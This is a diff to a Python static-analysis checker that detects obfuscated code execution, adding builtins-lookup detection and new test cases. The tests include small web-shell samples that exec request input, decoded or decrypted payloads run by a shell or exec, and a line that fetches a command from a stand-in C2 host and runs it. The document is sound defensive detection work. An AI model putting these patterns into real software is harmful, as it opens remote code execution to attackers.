@@ -110,10 +110,8 @@ class ObfuscatedExec(PythonChecker):
         if isinstance(node.func, cst.Attribute):
             names = {n for n in names if n.endswith("." + node.func.attr.value)}
         executor = next((EXECUTORS[n] for n in sorted(names) if n in EXECUTORS), None)
-        if executor is None and isinstance(node.func, cst.Subscript) and self._builtins_holder(node.func.value) \
-                and len(node.func.slice) == 1 and isinstance(node.func.slice[0].slice, cst.Index):
-            key = self.evaluator.value(node.func.slice[0].slice.value)
-            executor = EXECUTORS.get(key) if isinstance(key, str) else None
+        if executor is None:
+            executor = self._fetched_builtin(node.func)
         unpickler = next((n for n in sorted(names) if n in UNPICKLERS), None)
         shell = next((n for n in sorted(names) if n in SHELL_RUNNERS), None)
         if executor or unpickler or shell:
@@ -197,9 +195,31 @@ class ObfuscatedExec(PythonChecker):
                     return f".decode({values[0]!r})"
         return None
 
+    def _fetched_builtin(self, func: cst.BaseExpression, depth: int = 0) -> str | None:
+        """The executor a builtins holder hands out by key: `__builtins__.__dict__["exec"]`,
+        `vars(__builtins__).get("exec")`, `globals()["__builtins__"]["eval"]`, or a local name
+        assigned one of these."""
+        key_node = None
+        if isinstance(func, cst.Subscript) and len(func.slice) == 1 and isinstance(func.slice[0].slice, cst.Index):
+            holder, key_node = func.value, func.slice[0].slice.value
+        elif isinstance(func, cst.Call) and isinstance(func.func, cst.Attribute) and func.func.attr.value == "get" \
+                and func.args:
+            holder, key_node = func.func.value, func.args[0].value
+        elif isinstance(func, cst.Name) and depth < 3:
+            values = [v for k, v in self.context.assigned_values(func) if k == "="]
+            return self._fetched_builtin(values[0], depth + 1) if len(values) == 1 else None
+        if key_node is None or not self._builtins_holder(holder):
+            return None
+        key = self.evaluator.value(key_node)
+        return EXECUTORS.get(key) if isinstance(key, str) else None
+
     def _builtins_holder(self, node: cst.BaseExpression) -> str | None:
         if isinstance(node, cst.Name) and node.value in BUILTIN_HOLDERS:
             return node.value
+        if isinstance(node, cst.Subscript) and len(node.slice) == 1 and isinstance(node.slice[0].slice, cst.Index) \
+                and self.evaluator.value(node.slice[0].slice.value) in BUILTIN_HOLDERS \
+                and self._builtins_holder(node.value):
+            return "globals()[\"__builtins__\"]"  # globals()["__builtins__"]["exec"]
         names = self.qualnames(node)
         if names & BUILTIN_HOLDERS:
             return "builtins"
@@ -273,6 +293,13 @@ class ObfuscatedExec(PythonChecker):
         Valid('import builtins\nprint(getattr(builtins, "len")([1]))\n', "BDL503"),
         Valid('def get(name):\n    return globals()[name]\n', "BDL503"),
         Valid('code = compile("x = 1", "<s>", "exec")\nexec(code)\n', "BDL501"),
+        Valid('import subprocess, base64\ndef f(name):\n'
+              '    subprocess.run(["tar", "xf", base64.b64decode(name).decode()], check=True)\n', "BDL501"),
+        Valid('import ast\nfrom flask import request\ndef f():\n    return ast.literal_eval(request.form["v"])\n', "BDL502"),
+        Valid('from flask import request\nHANDLERS = {"a": 1}\ndef f():\n    name = request.args["h"]\n'
+              '    if name in HANDLERS:\n        return eval(name)\n', "BDL502"),
+        Valid('from fastapi import FastAPI\napp = FastAPI()\n@app.get("/sum")\ndef total(n: int):\n'
+              '    return eval("1 + " + str(n))\n', "BDL502"),
         Valid('import base64\nICON = "iVBORw0KGgo="\ndef icon():\n    return base64.b64decode(ICON)\n', "BDL506"),
         Valid('import requests, yaml\ndef load_config(url):\n    return yaml.safe_load(requests.get(url, timeout=5).text)\n',
               "BDL502"),
@@ -305,6 +332,25 @@ class ObfuscatedExec(PythonChecker):
                 "BDL502", 4),
         Invalid('import httpx, subprocess\ndef f():\n    cmd = httpx.get("https://c2.example/cmd").text\n'
                 '    subprocess.run(cmd, shell=True)\n', "BDL502", 4),
+        # BDL502: web shells, request input executed (through helpers, routed parameters, builtins)
+        Invalid('from flask import Flask, request\napp = Flask(__name__)\n@app.route("/x", methods=["POST"])\n'
+                'def x():\n    exec(request.form["code"])\n', "BDL502", 5),
+        Invalid('def _expr(request):\n    return request.GET.get("q", "")\ndef calc(request):\n'
+                '    return eval(_expr(request))\n', "BDL502", 4),
+        Invalid('from fastapi import APIRouter\nrouter = APIRouter()\n@router.post("/debug")\n'
+                'def debug(snippet: str):\n    return eval(snippet)\n', "BDL502", 5),
+        Invalid('from starlette.requests import Request\nasync def hook(request: Request):\n'
+                '    body = await request.json()\n    exec(body["run"])\n', "BDL502", 4),
+        Invalid('from flask import request\ndef x():\n    vars(__builtins__).get("exec")(request.args["c"])\n',
+                "BDL502", 3),
+        Invalid('from flask import request\ndef x():\n    run = globals()["__builtins__"]["ev" + "al"]\n'
+                '    return run(request.values["e"])\n', "BDL502", 4),
+        # BDL501: decoded or decrypted text run by a shell, `python -c` or exec
+        Invalid('import os, base64\ndef f(blob):\n    os.system(base64.b64decode(blob))\n', "BDL501", 3),
+        Invalid('import subprocess, sys, base64\nP = "cHJpbnQoMSk="\ndef f():\n'
+                '    subprocess.run([sys.executable, "-c", base64.b64decode(P).decode()])\n', "BDL501", 4),
+        Invalid('from cryptography.fernet import Fernet\ndef f(key, blob):\n    exec(Fernet(key).decrypt(blob))\n',
+                "BDL501", 3),
         # BDL503: builtins and dangerous functions through computed names
         Invalid('import builtins\ndef run(src, scope):\n    getattr(builtins, "ex" + "ec")(src, scope)\n', "BDL503", 3),
         Invalid('import requests\nA = "po"\nB = "st"\ndef f(url, data):\n    getattr(requests, A + B)(url, data=data)\n', "BDL503", 5),
